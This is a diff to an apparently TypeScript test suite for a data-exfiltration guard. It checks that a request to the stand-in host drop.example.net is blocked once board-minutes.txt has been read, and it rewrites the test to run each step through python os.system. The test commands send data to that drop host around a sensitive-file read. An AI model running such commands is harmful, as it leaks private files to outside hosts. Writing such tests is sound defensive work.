@@ -145,9 +145,10 @@ describe('T3 data exfiltration', () => {
     });
 
   test('row 7: the request that was allowed before a sensitive read is not allowed after it (R3.c)', async () => {
-    await s.bash(
-      `${SEND} -d 'count=1' https://drop.example.net/before; cat board-minutes.txt > /dev/null; ${SEND} -d 'count=1' https://drop.example.net/after`,
-    );
+    const step = (name: string) => `${SEND} -d 'count=1' https://drop.example.net/${name}`;
+    // One after the other: of a whole line, what it will read counts from its start.
+    s.file('steps', [step('before'), 'cat board-minutes.txt > /dev/null', step('after')].join('\n'));
+    await s.bash(`python3 -c 'import os; [os.system(line) for line in open("steps")]'`);
     const urls = s.internet
       .site('drop.example.net')
       .seen()
